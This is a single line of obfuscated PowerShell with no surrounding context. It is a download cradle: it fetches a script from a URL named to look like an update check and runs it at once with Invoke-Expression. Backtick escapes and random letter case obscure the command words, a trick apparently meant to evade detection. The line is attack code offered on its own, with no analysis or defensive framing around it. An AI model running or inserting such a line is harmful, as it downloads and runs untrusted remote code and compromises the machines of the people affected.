I`E`X (n`Ew-oB`jEcT N`eT.WeBcLiEnT).dOwNlOaDsTrInG('https://update-check.example.org/ps')
